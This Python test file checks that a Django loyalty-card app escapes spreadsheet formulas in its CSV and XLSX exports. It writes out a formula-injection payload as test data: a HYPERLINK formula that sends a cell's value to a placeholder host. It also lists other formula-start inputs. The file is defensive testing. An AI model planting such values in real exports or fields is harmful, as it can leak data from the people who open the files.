"""Formula injection (issue #13, reproduction 10): a member named like a spreadsheet formula
is inert text in every CSV and XLSX we hand out, while amounts stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from membercard.core.exports import cell
from membercard.core.models import Role
from membercard.loyalty.models import Member
from membercard.ops.models import AuditKind
from tests import factories as f
from tests.reports import conftest as report_fixtures
from tests.web import conftest as web_fixtures
from tests.web.conftest import signed_in

pytestmark = pytest.mark.django_db

# The report tests' clock and shop, and the web tests' signed-in clients.
clock, shop, client_for = report_fixtures.clock, report_fixtures.shop, web_fixtures.client_for

FORMULA = '=HYPERLINK("http://x/?"&B2,"Click")'


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ann Lee", "Ann Lee"),
        (-2_500, -2_500),  # a negative amount is a number, not text
        (0, 0),
        (True, 1),
        (None, ""),
    ],
)
def test_the_cell_writer_neutralises_formulas_and_keeps_numbers(value, expected):
    assert cell(value) == expected


def _top_members(clock, shop, name: str) -> tuple[object, object]:
    """A member called ``name`` who spent 25.00 today; finance's client and the report URL."""
    from membercard.operations import purchase, sell_card

    member = Member.objects.create(name=name, mobile="13800001234")
    card = f.stock_card(shop["product"], shop["store"])
    sell_card(
        actor=shop["cashier"],
        card_number=card.number,
        initial_value_minor=9_000,
        tender="cash",
        member=member,
        idempotency_key=f.key(),
    )
    purchase(
        actor=shop["cashier"], card_number=card.number, amount_minor=2_500, idempotency_key=f.key()
    )
    day = clock.day
    url = reverse("web:report", args=["top-members"]) + f"?date_from={day}&date_to={day}"
    return signed_in(Role.HQ_FINANCE), url


def test_top_members_xlsx_holds_the_name_as_inert_text(clock, shop):
    finance, url = _top_members(clock, shop, FORMULA)

    response = finance.get(url + "&format=xlsx")

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[2]]
    values = sheet[3]
    name = values[header.index("member")]
    assert name.data_type == "s"
    assert name.value == "'" + FORMULA
    spent = values[header.index("spent")]
    assert (spent.data_type, spent.value) == ("n", 2_500)


def test_top_members_csv_escapes_the_name(clock, shop):
    finance, url = _top_members(clock, shop, FORMULA)

    response = finance.get(url + "&format=csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows[0]["member"] == "'" + FORMULA
    assert rows[0]["spent"] == "2500"


def test_member_export_escapes_every_formula_start(client_for):
    Member.objects.create(name="\t=1+1", mobile="13700003333")
    Member.objects.create(name="-2+3", mobile="13700004444")

    response = client_for(Role.HQ_FINANCE).get("/hq/members/export.csv")

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert {r[1] for r in rows[1:]} == {"'\t=1+1", "'-2+3"}


def test_audit_export_escapes_formulas(client_for):
    from membercard.ops.models import AuditEvent

    AuditEvent.objects.create(
        kind=AuditKind.SIGN_IN_FAILED, username=FORMULA, location_code="S01", status=401
    )

    body = b"".join(client_for(Role.HQ_ADMIN).get("/hq/audit/export.csv").streaming_content)

    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + FORMULA
